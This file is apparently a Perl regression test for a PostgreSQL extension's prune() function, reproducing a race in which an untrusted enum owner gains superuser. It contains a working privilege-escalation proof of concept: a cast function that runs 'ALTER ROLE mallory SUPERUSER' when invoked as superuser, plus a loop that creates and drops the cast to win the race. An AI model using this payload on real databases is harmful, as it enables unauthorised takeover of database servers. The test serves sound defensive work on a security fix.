# What: 671/672's fix judges the functions of the casts from or to an
# enum type at the judging; the enum's owner creates her cast after it.
# CREATE CAST locks no table, and prune() holds nothing that keeps a cast
# out between its checks and the DELETE's key queries, which are parsed
# at run time (the cast is looked up then).  Setup as test/t/672: the
# superuser's public.job_results has a column of mallory's enum m.kind
# referencing public.jobs (kind text) with NO ACTION, rows with kind
# NULL; mallory has dropped her cast (the key's query then uses the I/O
# conversion, test/t/672's control: prune() passes).  mallory runs a
# loop that creates the cast (m.kind AS text) WITH FUNCTION
# m.kind_text(m.kind) AS IMPLICIT and drops it again, a transaction
# each.  The superuser's prune(batch => 1) runs again and again (a
# scheduled job): a run that judges while the cast exists skips the
# table with 672's WARNING; a run that judges without it and parses the
# key's query with it runs m.kind_text() as the superuser.
# Why: sql/src/28_owner_session.sql owner_code(): an enum is exempt from
# the owner check because "its owner can only add and rename labels, and
# create casts, whose functions are judged" -- judged only when the
# closure is read; owner_cascades() locks only the tables the DELETE
# writes (a NO ACTION key's table is read, and a cast needs no lock on
# any table anyway).  The race is the enum owner's to run as often as
# she likes; a lost round costs her a WARNING in the operator's log.
# Expected: no run of prune() runs m.kind_text() as the superuser (e.g.
# an enum of an untrusted owner in a key's columns is refused, as any
# other type of hers, or prune() runs the key's query with the casts it
# judged).
# Severity: high -- the enum's owner gets superuser, typically within a
# few runs of prune() (here: up to 120 runs allowed; three runs won at
# the 7th, 6th and 14th prune()); not deterministic, but the loop is
# hers to run for as long as it takes.
# Control: W2Q_ATTACK_CONTROL=1 runs no loop (no cast after the judging):
# 30 runs of prune() delete 30 jobs, mallory stays unprivileged.
use strict;
use warnings;
use PostgreSQL::Test::Utils;
use Test::More;
use W2QTest;

my $control = $ENV{W2Q_ATTACK_CONTROL};
my $node = new_node('prune_cast_race697');
owner_code_fixture($node, extension => 1);
my ($out, $err) = as_mallory($node, q{CREATE TYPE m.kind AS ENUM ('a', 'b');
	GRANT USAGE ON SCHEMA m TO PUBLIC;
	CREATE TABLE m.log (cur name);
	GRANT INSERT ON m.log TO PUBLIC;
	CREATE FUNCTION m.kind_text(m.kind) RETURNS text LANGUAGE plpgsql VOLATILE CALLED ON NULL INPUT AS $f$
	BEGIN
		INSERT INTO m.log VALUES (current_user);
		IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
			EXECUTE 'ALTER ROLE mallory SUPERUSER';
		END IF;
		RETURN format('%s', $1);
	END $f$;
	CREATE CAST (m.kind AS text) WITH FUNCTION m.kind_text(m.kind) AS IMPLICIT;});
is($err, '', "mallory's enum and its implicit cast to text");
$node->safe_psql('postgres', q{
	CREATE TABLE public.jobs (id bigint PRIMARY KEY, kind text NOT NULL UNIQUE, payload jsonb NOT NULL DEFAULT '{}');
	INSERT INTO public.jobs SELECT i, 'k' || i, '{}' FROM generate_series(1, 200) i;
	CREATE TABLE public.job_results (id bigint, kind m.kind REFERENCES public.jobs (kind));
	INSERT INTO public.job_results VALUES (10, NULL), (11, NULL);
	SELECT wal2queue.append_only('public.jobs');
	SELECT wal2queue.create_slot('s697', 'public.jobs');});
($out, $err) = as_mallory($node, q{DROP CAST (m.kind AS text); TRUNCATE m.log});
is($err, '', 'mallory drops her cast');

my $loop;
unless ($control)
{
	$loop = $node->background_psql('postgres', on_error_stop => 0, extra_params => [ '-U', 'mallory' ]);
	$loop->query_until(qr/looping/, q{\echo looping
DO $d$
DECLARE
	t0 timestamptz := clock_timestamp();
BEGIN
	WHILE clock_timestamp() < t0 + interval '90 s'
	      AND NOT (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) LOOP
		CREATE CAST (m.kind AS text) WITH FUNCTION m.kind_text(m.kind) AS IMPLICIT;
		COMMIT;
		DROP CAST (m.kind AS text);
		COMMIT;
	END LOOP;
END $d$;
\echo looped
});
}
my ($runs, $deleted, $skipped) = (0, 0, 0);
for my $i (1 .. ($control ? 30 : 120))
{
	my ($rc, $pout, $perr) = $node->psql('postgres', q{SELECT wal2queue.prune('public.jobs', batch => 1, force => true)});
	$runs++;
	$deleted += $pout if $pout =~ /^\d+$/;
	$skipped++ if $perr =~ /is skipped/;
	last if $node->safe_psql('postgres', q{SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'}) eq 't';
}
note("prune() runs: $runs, jobs deleted: $deleted, runs skipped: $skipped");
if ($loop)
{
	$node->safe_psql('postgres', q{SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE usename = 'mallory'});
	$loop->quit;
}
is($node->safe_psql('postgres', q{SELECT count(*) FROM m.log WHERE cur <> 'mallory'}), '0',
	"mallory's cast function did not run as another role");
is($node->safe_psql('postgres', q{SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'}), 'f',
	'mallory is no superuser');
is($deleted, 30, 'control: every run deleted a job') if $control;

$node->stop;
done_testing();
